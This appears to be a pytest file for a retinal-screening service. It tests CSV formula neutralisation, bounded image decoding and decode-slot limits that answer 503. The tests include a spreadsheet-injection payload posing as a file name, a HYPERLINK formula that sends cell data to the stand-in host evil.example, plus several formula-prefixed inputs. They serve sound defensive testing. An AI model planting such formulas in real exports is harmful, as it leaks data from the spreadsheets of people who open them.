"""What drscreen writes for people to open: CSV cells a spreadsheet cannot run, bounded decoding."""

from __future__ import annotations

import csv
import io
import threading
import time
import tracemalloc
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from PIL import Image

from core.csvcells import csv_cell
from ml.imageio import check_image, decode_image
from services import uploads
from services.routes.jobs import JobResultRow, _csv
from workers.bulk import ImageRow, PatientRow, ScoreResult, write_csv

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")_left.jpg'


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (None, ""),
        (True, "true"),
        (False, "false"),
        (3, "3"),
        (0.25, "0.25"),
        ("16_left.jpg", "16_left.jpg"),
        (FORMULA, "'" + FORMULA),
        ("+cmd_right.jpg", "'+cmd_right.jpg"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\tx", "'\tx"),
    ],
)
def test_csv_cell(value: Any, cell: str) -> None:
    assert csv_cell(value) == cell


def test_job_results_csv_neutralises_formulas_and_writes_lowercase_booleans() -> None:
    row = JobResultRow(file=FORMULA, status="done", patient_id="7", eye="left", grade=0,
                       referable=False, gradable=True, probabilities=[0.9, 0.1, 0, 0, 0])  # fmt: skip
    blurred = JobResultRow(file="8_left.jpg", status="done", patient_id="8", eye="left", referable=True,
                           gradable=False, quality_reasons=["out_of_focus", "underexposed"])  # fmt: skip
    parsed, ungradable = list(csv.DictReader(io.StringIO(_csv([row, blurred]))))
    # the CLI's column, with the gate's reasons (the HTTP CSV had none)
    assert ungradable["quality_reasons"] == "out_of_focus;underexposed" and ungradable["p0"] == ""
    assert parsed["file"] == "'" + FORMULA
    assert (parsed["referable"], parsed["gradable"], parsed["grade"]) == ("false", "true", "0")
    assert parsed["p0"] == "0.900000" and parsed["error"] == ""


def test_cli_csv_neutralises_formulas(tmp_path: Path) -> None:
    result = ScoreResult(
        "m@1",
        [ImageRow(FORMULA, "7", "left", "done", 0, False, True, [0.9, 0.1, 0.0, 0.0, 0.0])],
        [PatientRow("7", 0, False, True, {"left": {"grade": 0}})],
    )
    out = tmp_path / "r.csv"
    write_csv(result, out)
    (parsed,) = list(csv.DictReader(out.open(encoding="utf-8")))
    assert parsed["file"] == "'" + FORMULA and parsed["referable"] == "false" and parsed["p0"] == "0.9"


def _png(img: Image.Image) -> bytes:
    buf = io.BytesIO()
    img.save(buf, format="PNG")
    return buf.getvalue()


def test_sixteen_bit_conversion_is_exact_and_bounded() -> None:
    rng = np.random.default_rng(0)
    values = rng.integers(0, 65536, size=(1500, 1400), dtype=np.uint16)
    data = _png(Image.fromarray(values))
    tracemalloc.start()
    try:
        rgb = decode_image(data)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    expected = np.rint(values.astype(np.float64) / 65535.0 * 255.0).astype(np.uint8)
    assert rgb.shape == (1500, 1400, 3) and np.array_equal(rgb[..., 1], expected)
    # the 16-bit copy (2 bytes a pixel), the RGB answer (3) and one band of rows at a time: no
    # full-size float intermediates (the old conversion peaked at 24 bytes a pixel)
    assert peak < 8 * values.size, peak


def test_transparent_pixels_composite_over_black() -> None:
    rng = np.random.default_rng(1)
    rgba = rng.integers(0, 256, size=(300, 200, 4), dtype=np.uint8)
    img = Image.fromarray(rgba, "RGBA")
    expected = np.asarray(
        Image.alpha_composite(Image.new("RGBA", img.size, (0, 0, 0, 255)), img).convert("RGB")
    )
    got = decode_image(_png(img)).astype(int)
    assert np.abs(got - expected.astype(int)).max() <= 1


def test_upload_check_converts_nothing() -> None:
    data = _png(Image.new("RGBA", (2000, 1500), (10, 20, 30, 128)))
    tracemalloc.start()
    try:
        assert check_image(data) == (1500, 2000)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert peak < 1_000_000, peak  # no pixel array (a converted copy would be 9 MB)


class _Upload:
    def __init__(self, data: bytes) -> None:
        self.file = io.BytesIO(data)
        self.filename = "16_left.png"
        self.content_type = "image/png"


def test_uploads_decode_a_bounded_number_at_once(monkeypatch: pytest.MonkeyPatch) -> None:
    slots = uploads.DECODE_SLOTS._initial_value  # type: ignore[attr-defined]
    running, most = 0, 0
    lock = threading.Lock()

    def slow_check(data: bytes, max_pixels: int, min_side: int | None = None) -> tuple[int, int]:
        nonlocal running, most
        with lock:
            running += 1
            most = max(most, running)
        time.sleep(0.05)
        with lock:
            running -= 1
        return 100, 100

    monkeypatch.setattr(uploads, "check_image", slow_check)
    threads = [
        threading.Thread(
            target=uploads.validate_photo,
            args=(_Upload(b"x"), "file"),
            kwargs={"max_bytes": 10, "max_pixels": 10},
        )
        for _ in range(3 * slots + 2)
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join(10)
    assert 1 <= most <= slots, (most, slots)


def test_an_upload_that_cannot_get_a_decode_slot_is_told_to_retry(monkeypatch: pytest.MonkeyPatch) -> None:
    """The review: 45 slow uploads held every request thread (another clinic's GET took 16 s);
    waiting for a slot is bounded and answered 503 + Retry-After."""
    from core.errors import Unavailable

    monkeypatch.setattr(uploads, "DECODE_WAIT_S", 0.05)
    slots = uploads.DECODE_SLOTS._initial_value  # type: ignore[attr-defined]
    for _ in range(slots):
        assert uploads.DECODE_SLOTS.acquire(timeout=1)
    try:
        with pytest.raises(Unavailable, match="retry shortly"):
            uploads.validate_photo(_Upload(b"x"), "file", max_bytes=10, max_pixels=10)
    finally:
        for _ in range(slots):
            uploads.DECODE_SLOTS.release()


def test_the_web_pages_tiff_conversion_waits_for_a_decode_slot_no_longer_than_an_upload(
    client: Any, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """`/images/{id}/photo` converts a TIFF to PNG in a decode slot: it used to wait without limit
    (a request thread held as long as the slots were busy); it is now answered 503 + Retry-After
    after DECODE_WAIT_S, like an upload."""
    from core import repository as repo
    from core.db import session_scope
    from core.settings import get_settings
    from core.store import FileStore
    from tests.api_support import make_key, web_cookie

    key = make_key(url, "North")
    buf = io.BytesIO()
    Image.new("RGB", (300, 200), (120, 40, 20)).save(buf, format="TIFF")
    stored = FileStore(get_settings().store_path).put_bytes(buf.getvalue(), "tif")
    with session_scope(url) as s:
        patient = repo.get_or_create_patient(s, key.clinic_id, "P-TIFF")
        image_id = repo.create_image(
            s,
            clinic_id=key.clinic_id,
            patient_id=patient.id,
            eye="left",
            sha256=stored.sha256,
            stored_path=stored.relpath,
            size_bytes=stored.size_bytes,
            filename="p.tif",
        ).id
    path, cookie = f"/images/{image_id}/photo", web_cookie(client, key)

    monkeypatch.setattr(uploads, "DECODE_WAIT_S", 0.05)
    slots = uploads.DECODE_SLOTS._initial_value  # type: ignore[attr-defined]
    for _ in range(slots):
        assert uploads.DECODE_SLOTS.acquire(timeout=1)
    lock, held = threading.Lock(), [True]

    def free() -> None:
        with lock:
            if held[0]:
                held[0] = False
                for _ in range(slots):
                    uploads.DECODE_SLOTS.release()

    # the old code waited for as long as the slots were held: free them later so it answers
    # (200, a failure here) instead of hanging the test
    timer = threading.Timer(5.0, free)
    timer.start()
    try:
        busy = client.get(path, headers=cookie)
    finally:
        timer.cancel()
        free()
    assert busy.status_code == 503, busy.status_code
    assert busy.json()["error"] == "unavailable" and "retry shortly" in busy.text
    assert int(busy.headers["Retry-After"]) >= 1
    served = client.get(path, headers=cookie)  # a slot free: converted as before
    assert served.status_code == 200 and served.headers["content-type"] == "image/png"
    assert Image.open(io.BytesIO(served.content)).size == (300, 200)


@pytest.mark.parametrize("start", ["\n=1+1", "\r=1", "\t=1"])
def test_csv_cell_line_breaks_before_a_formula(start: str) -> None:
    assert csv_cell(start).startswith("'")


def test_a_web_upload_refused_for_want_of_a_decode_slot_is_a_503_page(
    client: Any, url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The web forms showed every refusal under 422; a page saying "retry shortly" is now a 503
    with Retry-After, as the JSON API answers (services.errors.status_for for every refusal)."""
    from tests.api_support import make_key, web_cookie

    key = make_key(url, "North")
    cookie = web_cookie(client, key)
    buf = io.BytesIO()
    Image.new("RGB", (300, 300), (120, 40, 20)).save(buf, format="PNG")
    form = {"patient_id": "P-BUSY", "eye": "left"}
    photo = {"file": ("p.png", buf.getvalue(), "image/png")}

    def post() -> Any:
        return client.post(
            "/screenings/image", data=form, files=photo, headers=cookie, follow_redirects=False
        )

    monkeypatch.setattr(uploads, "DECODE_WAIT_S", 0.05)
    slots = uploads.DECODE_SLOTS._initial_value  # type: ignore[attr-defined]
    for _ in range(slots):
        assert uploads.DECODE_SLOTS.acquire(timeout=1)
    try:
        busy = post()
    finally:
        for _ in range(slots):
            uploads.DECODE_SLOTS.release()
    assert busy.status_code == 503, busy.status_code
    assert "retry shortly" in busy.text and int(busy.headers["Retry-After"]) >= 1
    assert busy.headers["content-type"].startswith("text/html")
    accepted = post()
    assert accepted.status_code == 303, accepted.status_code
